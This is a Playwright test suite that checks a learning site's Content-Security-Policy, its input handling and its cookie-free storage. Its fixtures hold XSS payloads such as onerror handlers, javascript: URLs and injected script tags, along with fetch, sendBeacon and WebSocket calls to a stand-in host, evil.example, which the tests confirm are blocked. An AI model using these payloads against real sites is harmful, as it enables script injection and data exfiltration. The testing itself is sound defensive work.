// The policy for scripts and styles: what it says, and that what it forbids does not happen.
import { expect, test } from '@playwright/test';

const pages = ['', 'first/', 'exercises/', 'progress/', 'print/', 'embed/slope/', '404.html'];

test('every page has the policy, and nothing in it opens a door', async ({ page }) => {
  for (const path of pages) {
    await page.goto(path);
    const policy = await page.locator('meta[http-equiv="content-security-policy" i]').getAttribute('content');
    const rules = new Map(
      (policy ?? '').split(';').map((rule) => rule.trim().split(/\s+(.*)/s) as [string, string]),
    );
    expect(rules.get('default-src'), path).toBe("'self'");
    expect(rules.get('script-src'), path).not.toMatch(/'unsafe-inline'|'unsafe-eval'|https?:|\*/);
    expect(rules.get('script-src'), path).toContain("'self'");
    expect(rules.get('style-src'), path).not.toMatch(/unsafe-inline|https?:|\*/);
    expect(rules.get('object-src'), path).toBe("'none'");
    expect(rules.get('base-uri'), path).toBe("'none'");
    expect(rules.get('connect-src'), path).toBe("'self'");
  }
});

test('the policy stands before all that it is for, and what the first frame waits for is asked for at once', async ({
  page,
}) => {
  for (const path of pages) {
    await page.goto(path);
    const loading = await page.evaluate(() =>
      [...document.head.querySelectorAll('meta[http-equiv], script, link')].map((element) =>
        element.matches('meta')
          ? 'policy'
          : element.matches('script[src$="early.js"], [rel=stylesheet]')
            ? 'blocking'
            : 'other',
      ),
    );
    expect(loading.join(' '), path).toMatch(/^policy( blocking)+( other)*$/);
  }
});

/** Markup that gets into the page, and the rule that refuses it. */
const markup: readonly (readonly [string, string])[] = [
  ['<script>reached()</script>', 'script-src-elem'],
  ['<script src="https://evil.example/x.js"></script>', 'script-src-elem'],
  ['<script src="data:text/javascript,reached()"></script>', 'script-src-elem'],
  ['<script type="module">import "https://evil.example/x.js"</script>', 'script-src-elem'],
  ['<img src="data:image/png;base64,AA==" onerror="reached()">', 'script-src-attr'],
  ['<details open ontoggle="reached()">x</details>', 'script-src-attr'],
  ['<a href="javascript:reached()" data-press>x</a>', 'script-src-elem'],
  ['<style>h1 { color: rgb(1, 2, 3) !important }</style>', 'style-src-elem'],
  ['<link rel="stylesheet" href="https://evil.example/x.css">', 'style-src-elem'],
  ['<base href="https://evil.example/">', 'base-uri'],
  ['<form action="https://evil.example/"><button data-press>x</button></form>', 'form-action'],
  ['<form action="javascript:reached()"><button data-press>x</button></form>', 'form-action'],
  ['<img src="https://evil.example/x.png">', 'img-src'],
  ['<video src="https://evil.example/x.mp4"></video>', 'media-src'],
  ['<p style="background: url(https://evil.example/x.png)">x</p>', 'img-src'],
  ['<object data="https://evil.example/"></object>', 'object-src'],
  ['<embed src="https://evil.example/">', 'object-src'],
  ['<iframe src="https://evil.example/"></iframe>', 'frame-src'],
  ['<iframe src="data:text/html,x"></iframe>', 'frame-src'],
];

/** What a script could try if one ran, and the rule that refuses it. */
const calls: readonly (readonly [string, () => unknown, string])[] = [
  // biome-ignore-start lint/security/noGlobalEval: they are tried
  ['eval', () => window.eval('reached()'), 'script-src'],
  ['new Function', () => new Function('reached()')(), 'script-src'],
  // biome-ignore-end lint/security/noGlobalEval: they are tried
  ['a timer with text', () => setTimeout('reached()' as unknown as () => void), 'script-src'],
  ['fetch', () => fetch('https://evil.example/'), 'connect-src'],
  ['a beacon', () => navigator.sendBeacon('https://evil.example/', 'x'), 'connect-src'],
  ['a socket', () => new WebSocket('wss://evil.example/'), 'connect-src'],
  ['a stream', () => new EventSource('https://evil.example/'), 'connect-src'],
  ['a font', () => new FontFace('x', 'url(https://evil.example/x.woff2)').load(), 'font-src'],
  ['a worker of text', () => new Worker(URL.createObjectURL(new Blob(['']))), 'worker-src'],
];

test('what gets into the page is refused, each by its rule, and reaches no other host', async ({ page }) => {
  const asked: string[] = [];
  await page.context().route(/evil\.example/, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  await page.goto('first/');
  await page.evaluate(() => {
    const global = window as unknown as { reached: () => void; ran: number; refusal: typeof refusal };
    global.ran = 0;
    global.reached = () => {
      global.ran += 1;
    };
    /** The rule by which the browser refuses what is tried. */
    const refusal = (attempt: () => unknown) =>
      new Promise<string>((done) => {
        const late = setTimeout(() => done('nothing'), 3000);
        const refused = ({ effectiveDirective }: SecurityPolicyViolationEvent) => {
          clearTimeout(late);
          done(effectiveDirective);
        };
        document.addEventListener('securitypolicyviolation', refused, { once: true });
        // What a test evaluates may use eval; what a timer calls may not.
        setTimeout(async () => {
          try {
            await attempt();
          } catch {
            // As it should be.
          }
        });
      });
    global.refusal = refusal;
  });
  const own = page.url();
  const refused: string[] = [];
  for (const [html] of markup) {
    const rule = await page.evaluate((text) => {
      const { refusal } = window as unknown as { refusal: (attempt: () => void) => Promise<string> };
      return refusal(() => {
        const fragment = document.createRange().createContextualFragment(text);
        const pressed = fragment.querySelector<HTMLElement>('[data-press]');
        (/^<(style|link|base)/.test(text) ? document.head : document.body).append(fragment);
        pressed?.click();
      });
    }, html);
    refused.push(`${html}: ${rule}`);
  }
  for (const [name, call] of calls) {
    const rule = await page.evaluate(`window.refusal(${call.toString()})`);
    refused.push(`${name}: ${rule}`);
  }
  expect(refused).toEqual([
    ...markup.map(([html, rule]) => `${html}: ${rule}`),
    ...calls.map(([name, , rule]) => `${name}: ${rule}`),
  ]);
  expect(asked).toEqual([]);
  expect(page.url()).toBe(own);
  const after = await page.evaluate(() => ({
    ran: (window as unknown as { ran: number }).ran,
    base: document.baseURI,
    heading: getComputedStyle(document.querySelector('h1') as Element).color,
  }));
  expect(after).toEqual({ ran: 0, base: own, heading: expect.not.stringContaining('rgb(1, 2, 3)') });
});

test('what a reader types is never read as HTML', async ({ page }) => {
  await page.goto('first/');
  const exercise = page.locator('[data-exercise=slope]');
  const active = () => exercise.locator('img, script, iframe, a[href^="javascript"]').count();
  const before = await active();
  for (const typed of [
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '\\href{javascript:alert(1)}{x}',
    '__proto__',
  ]) {
    await exercise.locator('input').first().fill(typed);
    await exercise.locator('[data-action=check]').click();
    await expect(exercise.locator('.verdict')).toBeVisible();
    expect(await active()).toBe(before);
  }
});

test('no cookie is set, and the storage holds nothing but progress and theme', async ({ page, context }) => {
  await page.goto('first/');
  await page.locator('[data-exercise=slope] input').first().fill('2x');
  await page.locator('[data-exercise=slope] [data-action=check]').click();
  await expect(page.locator('[data-exercise=slope]')).toContainText('Solved');
  expect(await context.cookies()).toEqual([]);
  const keys = await page.evaluate(() => Object.keys(localStorage));
  for (const key of keys) expect(key).toMatch(/^(theme|backprop-by-hand)/);
});
